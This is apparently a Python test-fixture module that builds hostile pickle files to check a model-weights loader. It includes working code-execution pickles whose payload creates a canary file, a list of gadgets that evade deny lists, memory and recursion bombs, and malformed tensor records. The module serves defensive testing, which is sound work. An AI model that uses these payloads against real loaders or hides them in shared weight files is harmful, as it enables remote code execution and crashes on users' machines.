"""Hostile pickles, made here: every known way in which one has taken over or brought down a reader of weights.

Those in EXECUTES would, if `pickle` read them, make a file named CANARY in the current folder; test_hostile.py shows
that they do. hostile_files.py wraps all of these up, and adds what is wrong about the wrapping.
"""

import struct

from benchmarks.fuzz import zipped

CANARY = "canary"
F4 = b"ctorch\nFloatStorage\n"
DICT = b"ccollections\nOrderedDict\n)R"


# --- opcodes ----------------------------------------------------------------------------------------------------------


def text(s):
    return b"X" + struct.pack("<I", len(s.encode())) + s.encode()


def number(n):
    return b"\x8a\x09" + n.to_bytes(9, "little", signed=True)


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def items(*parts):
    return b"(" + b"".join(parts) + b"t"


def numbers(values):
    return items(*map(number, values))


def storage(numel=4, key="0", kind=F4, word="storage", view=b""):
    return items(text(word), kind, text(key), text("cpu"), number(numel), view) + b"Q"


def tensor(shape=(4,), stride=(1,), offset=0, where=None, rest=b"\x89" + DICT, function="_rebuild_tensor_v2"):
    where = storage() if where is None else where
    return name("torch._utils", function) + items(where, number(offset), numbers(shape), numbers(stride), rest) + b"R"


def program(value, protocol=2):
    """A pickle that is {"w": value}."""
    return bytes((0x80, protocol)) + b"}(" + text("w") + value + b"u."


def zip_of(value, numbers_of_storage=4):
    return zipped(program(value), {"0": bytes(4 * numbers_of_storage)})


def call(module, attribute, *arguments):
    """{"w": module.attribute(*arguments)}"""
    return program(name(module, attribute) + items(*map(text, arguments)) + b"R")


# --- code -------------------------------------------------------------------------------------------------------------

SHELL = f"echo x > {CANARY}"
_CODE = f"open({CANARY!r}, 'w').close()"
_RUN = b"cbuiltins\nexec\n" + items(text(_CODE)) + b"R"

EXECUTES = {
    "os.system": call("os", "system", SHELL),
    "posix.system": call("posix", "system", SHELL),
    "eval": call("builtins", "eval", _CODE),
    "exec": call("builtins", "exec", _CODE),
    "eval under Python 2's name": call("__builtin__", "eval", _CODE),
    "compile and exec": program(
        name("builtins", "exec")
        + items(name("builtins", "compile") + items(*map(text, (_CODE, "x", "exec"))) + b"R")
        + b"R"
    ),
    "subprocess": program(name("subprocess", "check_call") + items(b"](" + text("touch") + text(CANARY) + b"e") + b"R"),
    "runpy": program(
        name("runpy", "_run_code")
        + items(name("builtins", "compile") + items(*map(text, (_CODE, "x", "exec"))) + b"R", b"}")
        + b"R"
    ),
    "timeit": program(
        name("timeit", "timeit") + items(text(_CODE), text("pass"), name("time", "time"), b"K\x01") + b"R"
    ),
    "cProfile": call("cProfile", "run", _CODE),
    "pickle within": program(
        name("_pickle", "loads")
        + items(name("_codecs", "encode") + items(text("cbuiltins\nexec\n(V" + _CODE + "\ntR."), text("latin1")) + b"R")
        + b"R"
    ),
    "functools.partial": program(
        name("functools", "partial")
        + items(name("builtins", "exec"), text(_CODE))
        + b"R"  # made
        + b")R"  # and called
    ),
    "operator.methodcaller": program(
        name("operator", "methodcaller")
        + items(text("system"), text(SHELL))
        + b"R"
        + items(name("builtins", "__import__") + items(text("os")) + b"R")
        + b"R"
    ),
    "STACK_GLOBAL": program(text("builtins") + text("exec") + b"\x93" + items(text(_CODE)) + b"R", 4),
    "name within a name": program(text("os") + text("path.os.system") + b"\x93" + items(text(SHELL)) + b"R", 4),
    "name through an allowed one": program(text("collections") + text("_sys.modules.__class__") + b"\x93)R0" + _RUN, 4),
    "INST": b"\x80\x02}(" + text("w") + b"(" + text(_CODE) + b"ibuiltins\nexec\nu.",
    "OBJ": b"\x80\x02}(" + text("w") + b"(" + name("builtins", "exec") + text(_CODE) + b"ou.",
    "hidden in a key": b"\x80\x02}(" + _RUN + b"0" + text("w") + b"K\x01u.",
    "before a harmless dict": b"\x80\x02" + _RUN + b"0}.",
    "argument of an OrderedDict": program(name("collections", "OrderedDict") + items(b"]" + _RUN + b"0") + b"R"),
    "argument of a tensor": b"\x80\x02" + _RUN + b"0}(" + text("w") + b"}u.",
    "in a state": b"\x80\x02" + DICT + b"}" + text("x") + _RUN + b"sb.",
    "after the memo": b"\x80\x02" + name("builtins", "exec") + b"q\x00" + items(text(_CODE)) + b"q\x010" + b"h\x01R0}.",
}

GADGETS = [  # calls that lists of forbidden names have missed; none is on a list of allowed ones
    ("torch.serialization", "load"), ("torch", "load"), ("torch.storage", "_load_from_bytes"), ("torch.hub", "load"),
    ("torch.jit", "load"), ("torch.package", "PackageImporter"), ("torch.utils._config_module", "load_config"),
    ("torch.distributed.rpc.internal", "_run_function"), ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch.os", "system"), ("numpy", "load"), ("numpy.testing._private.utils", "runstring"),
    ("numpy.core.multiarray", "_reconstruct"), ("collections", "namedtuple"), ("collections", "OrderedDict.fromkeys"),
    ("builtins", "getattr"), ("builtins", "__import__"), ("importlib", "import_module"), ("webbrowser", "open"),
    ("ctypes", "CDLL"), ("marshal", "loads"), ("types", "FunctionType"), ("pydoc", "pipepager"), ("pip", "main"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), ("ensurepip", "_run_pip"), ("uuid", "_get_command_stdout"),
    ("shutil", "rmtree"), ("os", "remove"), ("socket", "create_connection"), ("pathlib", "Path"), ("sys", "exit"),
    ("torch._utils", "_rebuild_wrapper_subclass"), ("torch._tensor", "_rebuild_from_type_v2"),
    ("torch._utils", "_rebuild_sparse_tensor"), ("Torch._utils", "_rebuild_tensor_v2"), ("torch._utils ", "x"),
    ("argparse", "Namespace"),
]  # fmt: skip

OPCODES = {
    "INT as text": b"I1\n",
    "LONG as text": b"L1L\n",
    "STRING": b"S'x'\n",
    "UNICODE": b"Vx\n",
    "FLOAT as text": b"F1\n",
    "LONG4": b"\x8b\xff\xff\xff\x7f",
    "LONG1 of 255 bytes": b"\x8a\xff" + bytes(255),
    "PERSID": b"Px\n",
    "DUP": b"K\x012",
    "POP": b"K\x01K\x010",
    "POP_MARK": b"K\x01(1",
    "NEWOBJ": DICT[:-2] + b")\x81",
    "NEWOBJ_EX": DICT[:-2] + b")}\x92",
    "EXT1": b"\x82\x01",
    "EXT2": b"\x83\x01\x00",
    "EXT4": b"\x84\x01\x00\x00\x00",
    "EMPTY_SET": b"\x8f",
    "FROZENSET": b"(\x91",
    "BYTEARRAY8 of a terabyte": b"\x96" + (2**40).to_bytes(8, "little"),
    "NEXT_BUFFER": b"\x97",
    "READONLY_BUFFER": b"K\x01\x98",
    "BINBYTES of 4 GB": b"B\xff\xff\xff\xff",
    "no opcode at all": b"\xff",
}

LENGTHS = {
    "text of 4 GB": b"X\xff\xff\xff\xff",
    "text of 2^63": b"\x8d" + b"\xff" * 7 + b"\x7f",
    "text that is no UTF-8": b"U\x01\xff",
    "name without an end": b"c" + b"x" * 400,
    "number that is cut": b"J\x01",
}

STACK = {
    "no value": b"\x80\x02.",
    "two values": b"\x80\x02}}.",
    "mark left": b"\x80\x02(}.",
    "tuple without a mark": b"\x80\x02}t.",
    "tuple of what is not there": b"\x80\x02K\x01\x87.",
    "value from below the mark": b"\x80\x02}(s.",
    "memo that is empty": b"\x80\x02h\x00.",
    "memo entry 2^31": b"\x80\x02}r\x00\x00\x00\x80.",
    "memo entry that skips": b"\x80\x02}q\x05.",
    "no end": b"\x80\x02}",
    "protocol 1": b"\x80\x01}.",
    "protocol 6": b"\x80\x06}.",
    "protocol 0": b"(dp0\n.",
    "a number": b"\x80\x02K\x01.",
    "a list": b"\x80\x02].",
    "a tensor alone": b"\x80\x02" + tensor() + b".",
    "key without a value": b"\x80\x02}(" + text("w") + b"u.",
    "key that is a list": b"\x80\x02}]K\x01s.",
    "key that is a tuple": b"\x80\x02})K\x01s.",
    "key that is a float": b"\x80\x02}G" + bytes(8) + b"K\x01s.",
    "key that is True": b"\x80\x02}\x88K\x01s.",
    "key of 128 bits": b"\x80\x02}\x8a\x10" + b"\x7f" * 16 + b"K\x01s.",
    "key that is a name": b"\x80\x02}ctorch\nfloat32\nK\x01s.",
}

TARGETS = {  # CVE-2026-24747: items set on what is no dict
    "item of a tensor": tensor() + b"K\x00K\x01s",
    "items of a tensor": tensor() + b"(K\x00K\x01u",
    "item of a list": b"]K\x00K\x01s",
    "item of a tuple": b")K\x00K\x01s",
    "item of a name": b"ctorch\nfloat32\nK\x00K\x01s",
    "item of a storage": storage() + b"K\x00K\x01s",
    "append to a dict": b"}K\x01a",
    "append to a tensor": tensor() + b"K\x01a",
    "appends to a tuple": b")(K\x01e",
    "state of a dict": b"}}b",
    "state of a tensor": tensor() + b"}b",
    "state of a name": b"ctorch\nfloat32\n}b",
    "state that is a tuple": DICT + b")b",
    "call of a number": b"K\x01)R",
    "call of a tensor": tensor() + b")R",
    "call of a storage class": F4 + b")R",
    "call of a dtype": b"ctorch\nfloat32\n)R",
    "call with a list": name("collections", "OrderedDict") + b"]R",
    "OrderedDict of a text": name("collections", "OrderedDict") + items(text("ab")) + b"R",
    "OrderedDict of no pairs": name("collections", "OrderedDict") + items(b"](" + numbers((1, 2, 3)) + b"e") + b"R",
    "OrderedDict of a bad key": name("collections", "OrderedDict") + items(b"](" + items(b"]", b"N") + b"e") + b"R",
    "OrderedDict of two": name("collections", "OrderedDict") + items(b"]", b"]") + b"R",
    "Size of a text": name("torch", "Size") + items(text("x")) + b"R",
    "Size of two": name("torch", "Size") + items(b")", b")") + b"R",
    "device of a dict": name("torch", "device") + items(b"}") + b"R",
    "device of nothing": name("torch", "device") + b")R",
    "parameter of a text": name("torch._utils", "_rebuild_parameter") + items(text("x"), b"\x89", DICT) + b"R",
    "parameter with hooks": name("torch._utils", "_rebuild_parameter") + items(tensor(), b"\x89", b"](K\x01e") + b"R",
}

STORAGES = {
    "storage that is a text": text("storage") + b"Q",
    "storage with a tensor for a word": items(tensor(), F4, text("0"), text("cpu"), number(4)) + b"Q",
    "storage with a key of a million letters": storage(key="0" * 10**6),
    "storage with another word": storage(word="module"),
    "storage of four": items(text("storage"), F4, text("0"), text("cpu")) + b"Q",
    "storage of a class that is none": storage(kind=name("torch", "Size")),
    "storage of a text for a class": storage(kind=text("f4")),
    "storage of a quantised class": storage(kind=name("torch", "QInt8Storage")),
    "storage of -1": storage(-1),
    "storage of a text for a number": items(text("storage"), F4, text("0"), text("cpu"), text("4")) + b"Q",
    "view of a storage that is too long": storage(view=items(text("v"), number(2), number(3))),
    "view of a storage from -1": storage(view=items(text("v"), number(-1), number(3))),
    "view that is a list": storage(view=b"](K\x01e"),
}

TENSORS = {
    "one element too many": tensor((5,)),
    "beyond by its offset": tensor(offset=1),
    "beyond by its stride": tensor((2,), (4,)),
    "negative offset": tensor(offset=-1),
    "negative size": tensor((-4,)),
    "negative stride": tensor(stride=(-1,)),
    "size of 2^62": tensor((2**62,)),
    "sizes that overflow": tensor((2**32, 2**32), (0, 0)),
    "stride of 2^62": tensor((2,), (2**62,)),
    "sizes that overflow to 4": tensor((2**62 + 1, 4), (0, 1)),
    "absurd beside a zero": tensor((0, 2**62), (1, 1)),
    "more strides than sizes": tensor((4,), (1, 1)),
    "65 dimensions": tensor((1,) * 65, (1,) * 65),
    "expanded": tensor((10**9,), (0,)),
    "expanded a little": tensor((2, 4), (0, 1)),
    "size that is True": tensor((), ()).replace(b"(t(t", b"(\x88t(K\x01t"),
    "offset that is a text": name("torch._utils", "_rebuild_tensor_v2")
    + items(storage(), text("0"), b")", b")", b"\x89", DICT)
    + b"R",
    "sizes in a list": name("torch._utils", "_rebuild_tensor_v2")
    + items(storage(), number(0), b"]", b")", b"\x89", DICT)
    + b"R",
    "no storage": tensor(where=text("0")),
    "hooks": tensor(rest=b"\x89](K\x01e"),
    "hooks that are a tensor": b"](" + tensor() + b"q\x00" + tensor(rest=b"\x89h\x00") + b"e",
    "metadata": tensor(rest=b"\x89" + DICT + b"}(" + text("neg") + b"\x88u"),
    "three arguments": name("torch._utils", "_rebuild_tensor") + items(storage(), number(0), b")") + b"R",
    "nine arguments": tensor(rest=b"\x89" + DICT + b"NNN"),
    "dtype for a typed storage": tensor(rest=b"\x89" + DICT + b"ctorch\nfloat32\nN", function="_rebuild_tensor_v3"),
    "untyped storage without a dtype": tensor(where=storage(16, kind=name("torch.storage", "UntypedStorage"))),
    "untyped storage and no dtype": tensor(
        where=storage(16, kind=name("torch.storage", "UntypedStorage")),
        rest=b"\x89" + DICT + b"ctorch\nSize\nN",
        function="_rebuild_tensor_v3",
    ),
    "two dtypes": b"](" + tensor() + tensor(where=storage(kind=name("torch", "IntStorage"))) + b"e",
    "two sizes": b"](" + tensor() + tensor((1,), where=storage(1)) + b"e",
    "storage that is not there": tensor(where=storage(key="7")),
    "path for a key": tensor(where=storage(key="../../0")),
    "storage larger than its file": tensor(where=storage(5)),
    "storage smaller than its file": tensor((1,), where=storage(3)),
    "storage of another dtype": tensor(where=storage(kind=name("torch", "DoubleStorage"))),
}


# --- bombs ------------------------------------------------------------------------------------------------------------


def again_and_again():
    """A list of 5,000 pairs in the memo, of which 5,000 OrderedDicts are made."""
    pairs = b"](" + b"".join(items(b"J" + struct.pack("<i", i), b"N") for i in range(5000)) + b"eq\x00"
    return program(b"](" + pairs + b"ccollections\nOrderedDict\nq\x01" + b"h\x01h\x00\x85R" * 5000 + b"e")


BOMBS = {
    "three million opcodes": program(b"](" + b"}" * 3_000_000 + b"e"),
    "nested a million deep": b"\x80\x02" + b"](" * 1_000_000 + b"e" * 1_000_000 + b".",
    "the same list again and again": again_and_again(),
    "long sizes again and again": program(
        b"(" + b"K\x01" * 100_000 + b"tq\x00](" + (name("torch", "Size") + b"h\x00\x85R") * 100 + b"e"
    ),
}
